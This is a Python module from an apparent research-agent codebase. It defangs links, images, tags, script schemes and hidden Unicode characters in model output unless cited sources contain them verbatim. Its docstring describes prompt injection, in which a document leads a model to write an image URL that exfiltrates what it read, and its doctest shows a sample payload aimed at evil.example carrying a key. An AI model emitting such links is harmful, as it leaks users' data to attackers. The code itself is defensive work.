"""Makes a model's text safe to show: no address, image, tag or hidden character stays active.

A document may tell the model to write an image whose address carries away what the model has read;
a program that renders the answer would fetch it. So addresses, images and tags that no cited chunk
has word for word are broken: they can be read, but not followed.
"""

import re
import unicodedata
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import Any

from research_agent.types import events
from research_agent.types.claims import Claim
from research_agent.types.evidence import Evidence, source_of
from research_agent.types.refinement import QueryVerdict, Refinement
from research_agent.types.result import ResearchResult
from research_agent.types.verification import Draft

_TAG = re.compile(r"</?[A-Za-z][^<>]*>|<[A-Za-z][\w:-]*[\s/]+[^<>]*=|<[!?]")
_LINK = re.compile(r"\](?:\([^()\s\[\]]*|:\s*[^\s\[\]]+|\[[^\]]*(?=\]))")
_ADDRESS = re.compile(
    r"(?<![A-Za-z0-9+.-])[A-Za-z0-9+.-]*://(?=[^\s<>])(?:\[[0-9A-Fa-f:.]*\])?[^\s<>\"'`\[\]]*"
)
_SCRIPT = re.compile(
    r"(?<![A-Za-z0-9])(?:javascript|vbscript|data|mailto|file|tel):(?=[^\s:])[^\s<>\"'`\[\]]+",
    re.IGNORECASE,
)
_BARE = re.compile(r"(?<![A-Za-z0-9])www\.[^\s<>\"'`\[\]]+", re.IGNORECASE)
_TRAILING = ".,;:!?)]}*_"
_GOES_ON = r"(?![\w-]|[.@:]\w)"  # (a longer address is another one)
_JOINERS = re.compile("(?<=[^\x00-\x7f])[\u200c\u200d](?=[^\x00-\x7f\u200c\u200d])")
_KEPT = frozenset("\n\t\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2")
"""Control characters of plain text, and format characters that can be seen."""
_BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0")
"""Characters of other kinds of which nothing can be seen."""
MODEL_TEXTS: Mapping[type[events.Event], tuple[str, ...]] = {
    events.StepFinished: ("summary",),
    events.Hits: ("query",),
    events.Queries: ("reason",),
    events.DraftWritten: ("text",),
    events.SentenceChecked: ("text", "problem"),
    events.Warned: ("text",),
}
"""Fields of events that may have words of a model."""


def gated(text: str, sources: Sequence[str] = ()) -> str:
    """Return a model's text with what is in none of `sources`, word for word, shown as text.

    >>> gated("See ![x](https://evil.example/p.png?d=KEY).")
    'See ![x] (https[:]//evil[.]example/p.png?d=KEY).'
    """
    text = seen(text)
    text = _broken(_ADDRESS, text, _defanged, sources)
    text = _broken(_SCRIPT, text, lambda found: found.replace(":", "[:]", 1), sources)
    text = _broken(_BARE, text, lambda found: found.replace(".", "[.]"), sources)
    text = _broken(_LINK, text, lambda found: f"] {found[1:]}", sources)
    return _broken(_TAG, text, lambda found: found.replace("<", "&lt;"), sources)


def seen(text: str) -> str:
    """Return `text` without characters that nobody sees and that may hold a message of their own.

    Joiners stay between letters of scripts that need them.
    """
    if text.isascii() and text.replace("\n", " ").isprintable():
        return text
    plain = "".join(c for c in text if c in "\u200c\u200d" or not _is_unseen(c))
    kept = {match.start() for match in _JOINERS.finditer(plain)}
    return "".join(c for at, c in enumerate(plain) if c not in "\u200c\u200d" or at in kept)


def gated_draft(draft: Draft, evidence: Sequence[Evidence]) -> Draft:
    """Return a draft whose sentences may be shown, each against the chunks that it cites."""
    texts = {item.key: source_of(item.hit.chunk) for item in evidence}
    claims = tuple(_claim(claim, texts) for claim in draft.claims)
    return replace(draft, claims=claims, missing=tuple(map(gated, draft.missing)))


def gated_result(result: ResearchResult) -> ResearchResult:
    """Return a result whose queries and notes may be shown; its sentences are gated before.

    What the question itself says stays as it was asked.
    """

    def shown(text: str) -> str:
        return gated(text, [result.question])

    return replace(
        result,
        queries=tuple(map(shown, result.queries)),
        refinement=_refinement(result.refinement, shown),
        warnings=tuple(map(shown, result.warnings)),
        unsaid=tuple(map(shown, result.unsaid)),
    )


def gated_event(event: events.Event, evidence: Sequence[Evidence]) -> events.Event:
    """Return an event as it may be shown: a sentence by its cited chunks, a draft by all."""
    cited: Sequence[Evidence] = ()
    if isinstance(event, events.DraftWritten):
        cited = evidence
    if isinstance(event, events.SentenceChecked):
        cited = [item for item in evidence if item.key in event.keys]
    sources = [source_of(item.hit.chunk) for item in cited]
    names = MODEL_TEXTS.get(type(event), ())
    shown: dict[str, Any] = {name: gated(getattr(event, name), sources) for name in names}
    if isinstance(event, events.Queries):
        shown["queries"] = tuple(map(gated, event.queries))
        shown["verdicts"] = tuple(_verdict(one, gated) for one in event.verdicts)
    if isinstance(event, events.Calls):
        shown["calls"] = tuple(map(_gated_call, event.calls))
    return replace(event, **shown) if shown else event


def _gated_call(call: events.PlannedCall) -> events.PlannedCall:
    given = {
        name: gated(value) if isinstance(value, str) else value
        for name, value in call.arguments.items()
    }
    return replace(call, arguments=given, problem=gated(call.problem))


def _claim(claim: Claim, texts: Mapping[str, str]) -> Claim:
    sources = [texts[key] for key in claim.keys if key in texts]
    return replace(
        claim,
        text=gated(claim.text, sources),
        heading=gated(claim.heading, sources),
        problem=gated(claim.problem, sources),
        facts=tuple(replace(fact, text=gated(fact.text, sources)) for fact in claim.facts),
    )


def _refinement(refinement: Refinement, shown: Callable[[str], str]) -> Refinement:
    return replace(
        refinement,
        queries=tuple(map(shown, refinement.queries)),
        reason=shown(refinement.reason),
        verdicts=tuple(_verdict(one, shown) for one in refinement.verdicts),
    )


def _verdict(verdict: QueryVerdict, shown: Callable[[str], str]) -> QueryVerdict:
    """Return a verdict whose reasons may be shown, too: they name words of the query."""
    return replace(
        verdict,
        query=shown(verdict.query),
        blocked=shown(verdict.blocked),
        rulings=tuple(replace(one, reason=shown(one.reason)) for one in verdict.rulings),
    )


def _broken(
    pattern: re.Pattern[str], text: str, change: Callable[[str], str], sources: Sequence[str]
) -> str:
    """Return `text` with each match changed that none of the sources has."""

    def changed(match: re.Match[str]) -> str:
        literal = match[0].rstrip(_TRAILING) or match[0]
        whole = re.compile(re.escape(literal) + (_GOES_ON if literal[-1].isalnum() else ""))
        tail = match[0][len(literal) :]
        return match[0] if any(map(whole.search, sources)) else change(literal) + tail

    return pattern.sub(changed, text)


def _defanged(address: str) -> str:
    """Return an address that can be read and not be followed."""
    scheme, _, rest = address.partition("://")
    host, slash, path = rest.partition("/")
    return f"{scheme}[:]//{host.replace('.', '[.]')}{slash}{path.replace('://', '[:]//')}"


def _is_unseen(character: str) -> bool:
    if character in _KEPT:
        return False
    number = ord(character)
    selects = 0xFE00 <= number <= 0xFE0F or 0xE0000 <= number <= 0xE0FFF  # noqa: PLR2004 (variation selectors, and the tags' plane)
    hidden = unicodedata.category(character) in {"Cc", "Cf", "Cs", "Co"}
    hidden = hidden or "\U00040000" <= character <= "\U000dffff"  # (planes without characters)
    return hidden or selects or character in _BLANK
